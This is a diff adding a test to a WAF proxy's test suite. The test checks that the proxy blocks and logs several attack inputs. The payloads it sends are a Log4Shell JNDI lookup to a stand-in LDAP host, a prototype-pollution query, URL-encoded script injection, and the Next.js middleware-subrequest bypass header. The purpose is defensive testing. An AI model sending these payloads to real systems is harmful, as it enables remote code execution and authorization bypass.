@@ -105,6 +105,20 @@ describe("mamori proxy: the WAF with Debian's CRS 3.3.4 (blocking, paranoia 2)",
     assert.equal((await get('/', '8.8.8.8')).status, 200);
   });
 
+  it("closes CRS 3's gaps: Log4Shell in a header, prototype pollution, script in the path, CRS 4's restricted headers", async () => {
+    const cases: Array<[string, () => ReturnType<typeof get>, RegExp]> = [
+      ['198.51.100.30', () => request(`${proxy.url}/`, { headers: { ...BROWSER, 'x-api-version': '${jndi:ldap://198.51.100.7:1389/a}', 'x-forwarded-for': '198.51.100.30' } }), /\b36108010\b/],
+      ['198.51.100.31', () => get('/api/profile?constructor[prototype][isAdmin]=1', '198.51.100.31'), /\b36108020\b/],
+      ['198.51.100.32', () => get('/profile/%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E', '198.51.100.32'), /\b36108030\b/],
+      ['198.51.100.33', () => request(`${proxy.url}/`, { headers: { ...BROWSER, 'x-middleware-subrequest': 'middleware:middleware:middleware:middleware:middleware', 'x-forwarded-for': '198.51.100.33' } }), /\b920450\b/],
+    ];
+    for (const [ip, send, rule] of cases) {
+      const r = await send();
+      assert.equal(r.status, 403, ip);
+      assert.match(await rulesOf(ip), rule);
+    }
+  });
+
   it("blocks with mamori's rule pack on its own scores beside CRS 3's", async () => {
     const r = await get('/.env', '198.51.100.22');
     assert.equal(r.status, 403);
